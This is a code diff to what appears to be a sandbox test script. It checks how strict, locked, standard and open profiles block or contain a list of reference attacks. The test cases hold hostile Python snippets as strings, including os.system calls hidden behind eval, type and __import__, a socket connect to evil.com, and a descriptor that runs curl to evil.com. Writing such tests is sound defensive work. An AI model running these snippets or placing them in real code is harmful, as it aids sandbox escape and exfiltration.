@@ -2,7 +2,8 @@
 """The reference list of attacks (17 numbered ones, and those of three threat actors) in every profile: what ends them, and what is seen.
 
 Usage: reference_attacks.py BUILD. One row a case: source, and for each profile how it must end: the statuses that
-are right, the layer (None: the program ran to its own end), and rules of which one must be listed."""
+are right, the layer (None: the program ran to its own end), and rules of which one must be listed. `locked` ends them
+as `strict` does, unless a row says otherwise."""
 import re
 import sys
 
@@ -19,6 +20,7 @@ NO_PROCESS = (ENDED, None, r"seccomp\.(clone|fork|vfork|execve)|py\.event\.(os\.
 NO_NETWORK = (ENDED, None, r"seccomp\.(socket|connect)|py\.event\.socket")
 NO_FILE = (ENDED, None, r"py\.event\.open")
 NOTHING = "nothing"  # no rule is listed
+GUARDED = ("strict", "locked")
 
 CASES = [
     ("1 eval", "eval('__import__(\"os\").system(\"whoami\")')",
@@ -26,7 +28,7 @@ CASES = [
     ("2 compile", "compiled = compile('print(\"pwned\")', '<string>', 'exec')\nexec(compiled)\n",
      {"strict": ("blocked", "input", r"py\.call\.(compile|exec)"), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
     ("3 type", "Exploit = type('Exploit', (object,), {\n    '__init__': lambda self: __import__('os').system('whoami')\n})\nExploit()\n",
-     {"strict": ("blocked", "input", r"py\.call\.type"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
+     {"strict": ("blocked", "input", r"py\.call\.__import__"), "locked": ("blocked", "input", r"py\.call\.type"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
     ("4 import os", "import os; os.system('whoami')",
      {"strict": ("blocked", "input", r"py\.module\.os"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
     ("5 __import__", "__import__('socket').socket().connect(('evil.com', 80))",
@@ -64,7 +66,7 @@ CASES = [
     ("16 markup", "print('<script>alert(1)</script>')",
      {"strict": ("ok", None, ""), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
     ("17 binary", "import sys; sys.stdout.buffer.write(b'\\xff\\xfe\\x00\\x01')",
-     {"strict": ("blocked", "input", r"py\.module\.sys"), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
+     {"strict": ("ok", None, ""), "locked": ("blocked", "input", r"py\.module\.sys"), "standard": ("ok", None, ""), "open": ("ok", None, "")}, ""),
     ("test_network_blocked", "import socket\ntry:\n    s = socket.socket()\n    s.connect(('8.8.8.8', 53))\n"
      "    print('FAIL: Network accessible')\nexcept Exception as e:\n    print(f'PASS: Network blocked ({e})')\n",
      {"strict": ("blocked", "input", r"py\.module\.socket"), "standard": ("ok", None, NO_NETWORK[2]),
@@ -74,7 +76,7 @@ CASES = [
     ("buggy agent: loop", "while True:\n    x = sum(range(10000))\n",
      dict.fromkeys(("strict", "standard", "open"), ("timeout", "resources", "")), ""),
     ("moderate attacker: type", "type('x', (object,), {'__init__': lambda self: os.system('whoami')})()",
-     {"strict": ("blocked", "input", r"py\.call\.type"), "standard": ("error", None, ""), "open": ("error", None, "")}, ""),
+     {"strict": ("error", None, r"py\.guard\.type"), "locked": ("blocked", "input", r"py\.call\.type"), "standard": ("error", None, ""), "open": ("error", None, "")}, ""),
     ("moderate attacker: descriptor", "class Exploit:\n    def __get__(self, obj, type=None):\n        import subprocess\n"
      "        subprocess.call(['curl', 'evil.com'])\nclass V:\n    a = Exploit()\nV().a\n",
      {"strict": ("blocked", "input", r"py\.method\.__get__"), "standard": NO_PROCESS, "open": NO_PROCESS}, ""),
@@ -85,8 +87,8 @@ TEXTS = {"1 eval": "Blocked function: eval", "4 import os": "Blocked import: os"
 for who in tapsys.users():
     canaries = tapsys.Canaries(programs, who)
     for name, source, expected, printed in CASES:
-        for profile in ("strict", "standard", "open"):
-            statuses, layer, rules = expected[profile]
+        for profile in ("strict", "locked", "standard", "open"):
+            statuses, layer, rules = expected.get(profile) or expected["strict"]
             options = ["--timeout", f"{tapsys.SLOW}s"] if "timeout" in statuses else []
             r = tapsys.cordon(programs, ["run", "--json", "--profile", profile, *options, "-"], who,
                               env=canaries.environment(), text=source)
@@ -100,13 +102,13 @@ for who in tapsys.users():
                 tap.ok(any(re.match(rules, rule) for rule in r.rules()), f"{what}: seen as {rules}", r.story())
             if printed and r["status"] != "blocked":
                 tap.ok(printed in (r["stdout"] or ""), f"{what}: what was printed is there", r.story())
-            if name in TEXTS and profile == "strict":
+            if name in TEXTS and profile in GUARDED:
                 tap.ok(any(v["detail"] == TEXTS[name] and v["line"] for v in r["violations"]), f"{what}: the violation says {TEXTS[name]!r} and the line", r.story())
             if name == "16 markup":
                 tap.ok("<script>" in (r["stdout"] or "") and r.rules() == ["output.markup"], f"{what}: markup is data in the result, and is listed as what a browser runs", r.story())
-            if name == "17 binary" and profile != "strict":
+            if name == "17 binary" and profile != "locked":
                 tap.ok("Binary output detected" in (r["stdout"] or ""), f"{what}: said, not shown", r.story())
-            if name == "12 contents" and profile != "strict":
+            if name == "12 contents" and profile not in GUARDED:
                 tap.ok("nothing of the host" in (r["stdout"] or ""), f"{what}: the jail's own", r.story())
             tap.ok(canaries.word not in r.out + r.err, f"{what}: no canary in it")
     tap.eq(canaries.faults(), [], f"{who}: every canary is as it was")
